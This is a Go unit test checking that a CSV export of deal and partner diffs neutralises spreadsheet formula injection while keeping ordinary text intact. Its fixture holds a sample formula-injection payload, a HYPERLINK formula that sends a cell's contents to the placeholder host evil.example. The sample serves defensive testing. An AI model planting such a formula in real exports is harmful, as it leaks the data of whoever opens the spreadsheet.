package workbench

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A deal or partner id that starts with = + - @ (or a tab or carriage
// return) is a formula to a spreadsheet that opens the CSV: it must be
// written so that the cell reads as text, and read back unchanged in
// meaning.
func TestReviewDiffCSVNeutralisesFormulas(t *testing.T) {
	d := &Diff{
		Partners: []PartnerDiff{{Partner: "+SUM(A1)", Amounts: Amounts{}}},
		DealChanges: []DealDiff{
			{Deal: `=HYPERLINK("http://evil.example/?"&A1,"x")`, Partner: "@P"},
			{Deal: "-2+3", Partner: "\tP"},
			{Deal: "plain, \"quoted\"\nline", Partner: "P"},
		},
	}
	var b bytes.Buffer
	require.NoError(t, d.WriteCSV(&b))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	for _, r := range rows {
		for _, c := range r {
			if c == "" {
				continue
			}
			assert.NotContains(t, "=+-@\t\r", string(c[0]), "cell %q would be a formula", c)
		}
	}
	// Ids that are not formulas keep their text, commas, quotes and
	// newlines included.
	assert.Equal(t, "plain, \"quoted\"\nline", rows[len(rows)-1][1])
}
